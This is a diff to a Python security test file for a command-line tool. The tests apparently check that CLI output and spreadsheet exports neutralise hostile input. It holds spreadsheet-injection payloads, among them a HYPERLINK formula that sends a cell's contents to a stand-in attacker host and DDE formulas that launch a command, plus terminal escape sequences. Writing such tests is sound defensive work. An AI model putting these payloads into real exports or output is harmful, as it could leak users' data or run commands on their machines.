@@ -5,7 +5,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-from pathlib import Path
 
 import pytest
 from hypothesis import given
@@ -17,7 +16,8 @@ from core.paths import log_path
 from core.plain_text import spreadsheet_cell, terminal_text, unguarded_cell
 from jobs.cli.app import app
 from jobs.sheets import Block, Entry, Sheet, csv_text, latex, markdown
-from tests.security.hostile import MARKUP, fill_hostile
+from tests.pages.filled_store import Filled
+from tests.security.hostile import COMMANDS, MARKUP
 
 FORMULAS = (
     '=HYPERLINK("http://evil.example?x="&A1,"see")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+1)",
@@ -97,27 +97,17 @@ def _commands(mark: str) -> bool:
     return mark not in "\n\t" and (ord(mark) < 32 or 127 <= ord(mark) < 160)
 
 
-def test_no_verb_commands_the_terminal(laboratory: Path) -> None:
+def test_no_verb_commands_the_terminal(hostile_store: Filled) -> None:
     """A store whose labels, tasks, notes and launches hold escape sequences, as the verbs tell it."""
-    escape = "\x1b]0;owned\x07\x9b2J\u202e"
-    filled = fill_hostile(f"sqlite:///{laboratory / 'runs.db'}", seeds=(1,), markup=escape, tag="plain")
-    run = str(filled.mrn[0])
-    log_path(filled.mrn[0]).write_text(f"a line {escape}\n")
+    run = str(hostile_store.mrn[0])
+    log_path(hostile_store.mrn[0]).write_text(f"a line {COMMANDS}\n")
     said = ""
-    for verb in (
-        ["runs"],
-        ["show", run, "--log", "3"],
-        ["results"],
-        ["relations", run],
-        ["relations", run, "--numbers"],
-    ):
-        done = CliRunner().invoke(
-            app, verb, color=True
-        )  # without colours, Typer would take sequences out itself
+    for verb in (["runs"], ["show", run, "--log", "3"], ["results"], ["relations", run, "--numbers"]):
+        done = CliRunner().invoke(app, verb, color=True)  # without colours, Typer would take sequences out
         assert done.exit_code == 0, done.output
-        assert not [mark for mark in done.output if _commands(mark) or mark == "\u202e"]
+        assert not [mark for mark in done.output if _commands(mark)]
         said += done.output
-    assert r"\x1b]0;owned\x07\x9b2J\u202e" in said
+    assert r"\x1b]0;owned\x07\x9b2J" in said
 
 
 def test_tables_to_paste_hold_no_markup() -> None:
